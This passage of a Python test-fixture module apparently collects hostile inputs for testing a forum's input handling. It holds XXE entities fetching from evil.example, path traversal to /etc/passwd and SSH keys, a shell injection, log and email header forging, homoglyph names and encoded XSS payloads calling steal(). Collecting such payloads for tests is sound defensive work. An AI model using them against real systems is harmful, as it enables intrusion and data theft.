%0A=1+1
""")

DATA = _lines(r"""
","admin":true,"x":"
\",\"role\":\"admin\"}
"}]}],"posts":[{"text":"forged
\u0022,\u0022admin\u0022:true
{"__proto__":{"admin":true}}
{"constructor":{"prototype":{"admin":true}}}
</script><script>{"x":1}
)]}',
{"$where":"steal()"}
1e999
NaN, Infinity, -Infinity
\ud800 \udc00 lone
</source></segment></unit><unit id="forged"><segment><source>
</target><target>forged
<target>forged</target>
<cp hex="0000"/>
<cp hex="110000"/>
<mrk type="term" ref="javascript:steal()">x</mrk>
<xliff:note xmlns:xliff="x">forged</xliff:note>
]]></source>
<!DOCTYPE x [<!ENTITY % a SYSTEM "https://evil.example/x.dtd">%a;]>
<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>
<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>
<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>
<xsl:value-of select="system-property('xsl:vendor')"/>
&xxe; &#0; &#xFFFF;
<item xsi:type="x" xsi:schemaLocation="https://evil.example x">forged</item>
<feed><entry><title type="html">&lt;b onclick=steal()&gt;</title></entry></feed>
<loc>https://evil.example/</loc>
""")

PATHS = _lines(r"""
../../../forum.db
....//....//etc/passwd
..%2f..%2f..%2fetc%2fpasswd
..%252f..%252fetc%252fpasswd
..%c0%af..%c0%afetc/passwd
%2e%2e/%2e%2e/forum.db
..;/admin
/admin;x=1
/en//evil.example/..
/en/../../desk
/%00/desk
C:\Windows\win.ini
\\evil.example\share\x
//evil.example\@ok.example
file.txt::$DATA
CON
NUL.txt
report.csv"; filename="x.exe
report.csv\r\nContent-Type: text/html
report.pdf%00.exe
.htaccess
~root/.ssh/id_rsa
| id > x
-rf
--output=/tmp/x
/proc/self/environ
/dev/stdin
""")

RECORDS = (
    "x\nlevel=info event=login who=ada",
    'x"\n{"event": "login", "who": "ada", "level": "info"}',
    "x\r\n2026-01-01 00:00:00 [info] role.given who=ada",
    "x\x1b[1A\x1b[2K[info] nothing happened",
    "x\x1b]8;;https://evil.example\x07press here\x1b]8;;\x07",
    "x\x08\x08\x08\x08ada",
    "x\x85level=info",
    'x\u2028{"event": "login"}',
    "${env:FORUM_SECRET} ${sys:user.name}",
    "%(asctime)s %(secret)s {asctime} {0}",
    "x status=200 route=home\tms=0",
    "<13>1 2026-01-01T00:00:00Z forum - - - forged",
)

MAILS = (
    "Amina\r\nBcc: everyone@evil.example",
    "Amina\r\n\r\nAnother text",
    "Amina\nContent-Type: text/html",
    "Amina%0aReply-To: x@evil.example",
    "=?utf-8?q?=0ABcc:_x@evil.example?=",
    '"Forum" <admin@evil.example>',
    "Amina <x@evil.example>, Bilal",
    "a@b.example, x@evil.example",
    "a@b.example\u2028x@evil.example",
    '"a\\" b"@evil.example',
    "a@b.example?cc=x@evil.example",
    "--=_boundary--\r\nContent-Type: text/html\r\n\r\n<script>steal()</script>",
    "begin 644 x.exe",
    "\r\n.\r\nQUIT",
    "\n\n-- \nThe institution",
    "Your account is closed: https://evil.example/",
    "\u2069\u2069https://evil.example/\u2066",
)

NAMES = _lines(r"""
аdmin
Аdа
ADМIN
admіn
adm1n
rnoderator
mоderator
0fficial
оfficial
ACM​
АСМ
ＡＣＭ
𝐀𝐂𝐌
A⁣C⁣M
A.C.M
A-C-M
AIMÁ
ΑΙΜΑ
officer‮ecnI
Inês⁠
lnês
Ιnês
ada​
ada ada
adа_
support✓
✔ Ada
Ada ☑️
🏛 ACM
(ACM)
[deleted]
null
undefined
""")


def _entities(text: str, form: str) -> str:
    return "".join(form.format(ord(each)) for each in text)


def _disguised(scheme: str) -> Iterator[str]:
    """A scheme as browsers read it, or once read it, and as plain comparison does not."""
    first, rest = scheme[0], scheme[1:]
    yield _entities(first, "&#{:d};") + rest
    yield _entities(first, "&#x{:X}") + f";{rest}"
    yield _entities(first, "&#{:08d}") + f"{rest}"
    yield f"{first}&#8203;{rest}"
    yield f"{first}&shy;{rest}"
    yield f"{first}&#x0D;{rest}"
    yield f"&#14;{scheme}"
    yield f"&#xA0;{scheme}"
    yield _entities(scheme, "%{:02X}")
    yield _entities(scheme, "%25{:02X}")
    yield _entities(scheme, "\\{:x} ")
    yield f"{scheme.upper()}&#32;"
    yield f"x:{scheme}"
    yield f"/{scheme}"


DISGUISED = tuple(
    link.format(f"{disguised}{end}")
    for scheme, end in (("javascript", ":steal()"), ("vbscript", ":steal"), ("data", ":text/html,x"))
    for disguised in _disguised(scheme)
    for link in ("[go]({})", '<a href="{}">go</a>')
)

RAW_TEXT = ("style", "title", "textarea", "noscript", "xmp", "iframe", "noembed", "noframes", "script", "template")
AROUND = (
    '<svg><{0}><a id="</{0}><img src=x onerror=steal()>"></svg>',
    '<math><mtext><{0}><a title="</{0}><img src=x onerror=steal()>"></math>',
    "<table><{0}><!--</{0}><img src=x onerror=steal()>--></table>",
    '<select><{0}></select><img title="</{0}><script>steal()</script>">',
    "<form><math><mtext></form><form><mglyph><{0}></math><img src=x onerror=steal()></{0}>",
)
"""Where one reader takes the content for text and the next for markup, for each element whose content is text somewhere."""
MISREAD = tuple(around.format(element) for around in AROUND for element in RAW_TEXT)

OPENING = "<img src=x onerror=steal()>"
ENCODED = (
    _entities(OPENING, "&#{:d}"),
    _entities(OPENING, "&#x{:04x};"),
    _entities(OPENING, "&amp;#{:d};"),
    _entities(OPENING, "%{:02x}"),
    _entities(OPENING, "%25{:02x}"),
    _entities(OPENING, "%u{:04x}"),
    _entities(OPENING, "\\u{:04x}"),
    _entities(OPENING, "\\x{:02x}"),
    _entities(OPENING, "\\{:o}"),
    _entities(OPENING, "={:02X}"),
    "".join(chr(ord(each) + 0xFEE0) if "!" <= each <= "~" else each for each in OPENING),
    "+ADw-img src+AD0-x onerror+AD0-steal()+AD4-",
    "\u00c0\u00bcimg src=x onerror=steal()\u00c0\u00be",
    "\u00e0\u0080\u00bcimg src=x onerror=steal()\u00e0\u0080\u00be",
    "\u00a2\u00beimg src=x onerror=steal()\u00a2\u00bc",
    "PGltZyBzcmM9eCBvbmVycm9yPXN0ZWFsKCk+",
    "\x1b$B<img src=x onerror=steal()>\x1b(B",
    "~{<img src=x onerror=steal()>~}",
    "\u226e\u0338img src=x onerror=steal()>",
    "<\u0338img src=x onerror=steal()>",
)

ENDS = (
    '"', "'", "`", '\\"', "&quot;", "&#39;", "-->", "]]>", "*/", "</a>", "</bdi>", "</code></pre>", "</option></select>",
    "</label></form>", "</dd></dl>", "</td></tr></table>", "</h1></main>", "</p></div></div></article>", "</svg>", "</head><body>",
)  # fmt: skip
ENDED = tuple(f"{end}<b onpointerdown=steal()>{number}" for number, end in enumerate(ENDS)) + tuple(
    f"x{end} onfocus=steal() autofocus tabindex={number} x={end[:1]}" for number, end in enumerate(ENDS[:6])
)
"""The ends of whatever a text may stand in, and something that only works outside it."""


ATTACKS: tuple[str, ...] = (
    *CELLS, *SCRIPTS, *HANDLERS, *FRAMES, *ATTRIBUTES, *FOREIGN, *MUTATIONS, *COMMENTS, *SCHEMES, *RAW_LINKS, *AUTOLINKS,
    *TITLED_LINKS, *REFERENCES, *IMAGES, *TEMPLATES, *QUERIES, *HEADERS, *CONTROLS, *INVISIBLE, *BIDI, *PILED_MARKS,
    *OVERLONG, *NESTING, *BLOCKS, *NUMBERS, *STYLES, *DATA, *PATHS, *RECORDS, *MAILS, *NAMES, *DISGUISED, *MISREAD, *ENCODED,
    *ENDED,
)  # fmt: skip
